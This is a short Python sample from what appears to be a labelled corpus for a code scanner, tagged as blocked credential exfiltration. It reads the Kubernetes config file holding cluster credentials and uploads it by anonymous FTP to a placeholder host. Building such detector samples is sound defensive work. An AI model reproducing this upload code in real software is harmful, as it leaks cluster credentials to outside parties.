# pyguard-corpus: verdict=block category=exfil rules=PG601,PG606
# what: uploads the Kubernetes config (cluster credentials) over FTP
import ftplib
import os

with ftplib.FTP("ftp.example.net", "anonymous", "guest@") as ftp:
    with open(os.path.expanduser("~/.kube/config"), "rb") as handle:
        ftp.storbinary("STOR incoming/kube.conf", handle)
